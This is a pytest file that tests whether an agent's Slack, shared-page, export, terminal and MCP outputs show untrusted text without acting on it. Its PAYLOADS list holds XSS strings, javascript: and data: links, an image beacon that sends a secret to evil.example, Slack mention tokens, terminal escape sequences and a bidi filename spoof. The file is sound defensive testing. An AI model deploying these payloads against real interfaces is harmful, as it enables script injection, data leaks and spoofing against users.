"""Whatever words hold, Slack, the shared page, an export, a terminal and an MCP client show them and do nothing: asserted by parsing what is sent."""

from __future__ import annotations

import html
import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from unicodedata import category

import pytest
from markdown_it import MarkdownIt
from PIL import Image

from agent import events
from agent.channels import accounts
from agent.channels.cli import _complain
from agent.channels.lines import json_line
from agent.channels.mcp.answers import Answer, content, link
from agent.channels.play import Printer
from agent.channels.share_page import Shown, talk_page
from agent.channels.slack import blocks
from agent.channels.slack.mrkdwn import escaped, mrkdwn
from agent.channels.web_turns import TurnCard
from agent.views import asset_view
from prompts.phrases import printable_lines
from prompts.shot import Shot, Words
from tests.agent.channels.test_slack_parts import VIEW
from tools.assets import Asset, AssetStore, NewAsset
from tools.errors import BadInput
from tools.exporting import documents
from tools.licensing import Ground, Report, Row
from tools.media import encode_png

EVIL = "https://evil.example"
PAYLOADS = (
    "[press](javascript:alert(1))", "[press](JaVaScRiPt&colon;alert(1))", f"[https://bank.example]({EVIL})", f"![x]({EVIL}/pixel.png?q=secret)",
    f"![x][r]\n\n[r]: {EVIL}/pixel.png", "[press](data:text/html;base64,PHNjcmlwdD4=)", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    f"<iframe src={EVIL}></iframe>", "<svg/onload=alert(1)>", f"\n\n<div style=\"background:url({EVIL})\">\n\n", f"<{EVIL}/a>", "<mailto:a@evil.example>",
    "<!channel>", "<!here|here>", "<!subteam^S0TEAM>", "<@U0ANN>", "<#C0ROOM|general>", f"<{EVIL}|your bank>", "<!date^0^{date}^https://evil.example|x>",
    "&lt;!channel&gt; &#60;@U0ANN>", "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m", "\x9b31m\x9d52;c;ZXZpbA==\x9c", "back\x08\x08\rover\x00\x7f", "abc\u202egnp.exe\u2066\u2069\u200f",
    "\"><script>alert(1)</script>", "' onmouseover='alert(1)", "]]><!--<b>-->", "| a | b |\n| --- | --- |\n| ![x](//evil.example/x) | <b> |", "`</code><script>alert(1)</script>`",
)  # fmt: skip
every = pytest.mark.parametrize("words", PAYLOADS, ids=[f"{at}" for at in range(len(PAYLOADS))])
MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])
STEERING = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]")


@pytest.fixture(scope="module")
def asset(tmp_path_factory: pytest.TempPathFactory) -> Asset:
    with AssetStore(tmp_path_factory.mktemp("rendered")) as store:
        new = NewAsset(project="p", owner="ann", shot=Shot.model_validate({"subject": "x"}), width=8, height=8)
        return store.put(new, encode_png(Image.new("RGB", (8, 8))))


def saying(asset: Asset, words: str) -> Asset:
    """Return the asset with these words wherever somebody else's may stand."""
    raw = Words.model_construct(text=words, ids=())
    shot = Shot.model_validate({"subject": "x"}).model_copy(update={"subject": raw, "style": raw})
    return asset.model_copy(update={"words": words, "shot": shot, "labels": (words,), "licence": words, "changed": (words,)})


# -- Slack


def texts_of(part: Any) -> Iterator[dict[str, Any]]:
    """Yield every text object of blocks."""
    if isinstance(part, dict):
        if part.get("type") in ("mrkdwn", "plain_text"):
            yield part
        part = list(part.values())
    for inner in part if isinstance(part, list) else ():
        yield from texts_of(inner)


@every
def test_slack_finds_no_mark_in_anybody_s_words(words: str) -> None:
    for text in (escaped(words), mrkdwn(words)):
        assert not set(text) & {"<", ">"} and not STEERING.search(text)
        assert not re.search(r"&(?!(?:amp|lt|gt);)", text), "Slack reads back exactly three signs"
    assert html.unescape(escaped(words)) == printable_lines(words)
    card = TurnCard("t", "ann", "th", status="done", text=words, failure=words, question=words, message=words)
    card.candidates, card.told = [{**VIEW, "words": words}], [{"title": words, "rows": [{words: words}]}]
    card.compared = {"left": VIEW, "right": VIEW, "changed": [words]}
    view = {**VIEW, "alt": words, "notes": [words], "not_drawn": [words], "model_title": words, "cost": words, "draft": False, "changed": [words], "words": words}
    priced = {"id": "p1", "words": words, "maker": words, "estimate": words, "usd": 1.0, "count": 1, "fetch": []}
    page = "https://scenes.example.com/chat/thread/th"
    shown = [
        blocks.progress(card, "en", "th"), blocks.outcome(card, "en", page=page), blocks.question(card, "en", "th"),
        blocks.result(view, "en", "th", file="F1"), blocks.result(view, "en", "th", link=page), blocks.approval(priced, "en", "th", "U1"),
    ]  # fmt: skip
    for text in texts_of(shown):
        assert text["type"] == "plain_text" or text["verbatim"], "Slack makes no links of bare addresses and names"
        assert text["type"] == "plain_text" or all(mark.startswith(f"<{page}|") for mark in re.findall(r"<[^>]*>?", text["text"]))
        assert not STEERING.search(text["text"])


# -- the page that others may read


class Structure(HTMLParser):
    """The tags and attributes of a page, without what stands between backticks, and its words."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, tuple[str, ...], str]] = []
        self.words = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        where = " ".join(value or "" for name, value in attrs if name in ("href", "src", "style", "action", "poster"))
        if tag != "code":
            self.tags.append((tag, tuple(name for name, _ in attrs), where))

    def handle_data(self, data: str) -> None:
        self.words += data

    def handle_comment(self, data: str) -> None:
        self.tags.append(("comment", (), data))


def page_of(asset: Asset, words: str) -> str:
    text = saying(asset, words).model_copy(update={"id": "t1", "handle": "txt1", "kind": "text"})
    lines = [documents.Line("person", words, ("a1",)), documents.Line("assistant", "fine", ("t1",))]
    return talk_page(words, lines, {"a1": Shown(saying(asset, words)), "t1": Shown(text, text=words)}, "/share/t", "en")


@every
def test_a_shared_page_has_the_tags_it_has_for_any_words(asset: Asset, words: str) -> None:
    page, harmless = Structure(page_of(asset, words)), Structure(page_of(asset, "harmless"))
    assert page.tags == harmless.tags and not STEERING.search(page.words)
    assert printable_lines(words).strip().replace("`", "") in page.words.replace("`", "")


# -- an export


def tokens_of(text: str) -> list[Any]:
    """Return every token of a Markdown document, those inside of lines too."""
    return [inner for token in MARKDOWN.parse(text) for inner in (token, *(token.children or ()))]


@every
def test_the_pages_of_an_export_load_and_lead_to_its_own_files_only(asset: Asset, words: str) -> None:
    said = saying(asset, words)
    shelf = documents.Shelf(words, (said,), {said.id: "assets/img1.png"}, {said.id: words})
    row = Row(said.handle, "image", words, words, "no", (Ground("allowed", "yes", {"licence": words, "maker": words}, words),), ((words, words, words),), (words,))
    pages = [
        documents.readme(shelf, [documents.Line("person", words, (said.id,)), documents.Line("assistant", words)]), documents.prompts(shelf),
        documents.lineage(shelf), documents.licences(Report((row,), (), "no")),
    ]  # fmt: skip
    for document in pages:
        assert not STEERING.search(document)
        tokens = tokens_of(document)
        assert [token for token in tokens if token.type.startswith("html")] == []
        leads = {token.attrGet("href") or token.attrGet("src") for token in tokens if token.type in ("link_open", "image")}
        assert leads <= {"assets/img1.png", "prompts.md", "lineage.md", "licences.md"}


# -- the command line


@every
def test_a_terminal_is_steered_by_nobody_s_words(asset: Asset, words: str, capsys: pytest.CaptureFixture[str]) -> None:
    view = {**asset_view(saying(asset, words), {}), "notes": [words], "not_drawn": [words], "words": words}
    settings = SimpleNamespace(term="", term_program="")
    printer = Printer(SimpleNamespace(store=None, outgoing=None, settings=settings), None, as_json=False)  # type: ignore[arg-type]
    priced = {"id": "p1", "words": words, "maker": words, "estimate": words, "usd": 1.0, "count": 1, "fetch": []}
    for event in (
        events.Said(words), events.Finished(0.1, 1), events.Made(view), events.Asked(words, (view,)), events.NeedsApproval(priced),
        events.Told("facts", ({"name": words},)), events.Failed(words, 2),
    ):  # fmt: skip
        printer.show(event)
    accounts._print_rows("jobs", [{"words": words}], ("words",), as_json=False)
    accounts._print_rows("jobs", [{"words": words}], ("words",), as_json=True)
    _complain(BadInput(words))
    line = json_line(view, path="p", seconds=1.0)
    assert json.loads(line)["notes"][0] == words and not STEERING.search(line)
    told = capsys.readouterr()
    strange = [char for char in told.out + told.err if char != "\n" and (category(char) == "Cc" or STEERING.match(char))]
    assert strange == [] and "\x1b" not in told.out


# -- MCP


@every
async def test_a_client_of_mcp_finds_nothing_to_load_or_to_press(words: str, tmp_path: Path) -> None:
    answer = Answer(words=words, lines=[words], failure=words)
    answer.questions = [{"id": "p1", "words": words, "kind": "image", "maker": words, "estimate": words}]
    answer.take(events.Told(words, ({words: words},)))
    told = await content(answer, None, "th")  # type: ignore[arg-type]
    text = "\n".join(block.text for block in told.content if block.type == "text")
    found = {token.type for token in tokens_of(text)}
    assert not found & {"image", "link_open", "html_inline", "html_block"} and not STEERING.search(text)
    described = link({"id": "a1", "handle": "img1", "alt": words, "path": "img1.png"}).description or ""
    assert not {token.type for token in tokens_of(described)} & {"image", "link_open", "html_inline", "html_block"}
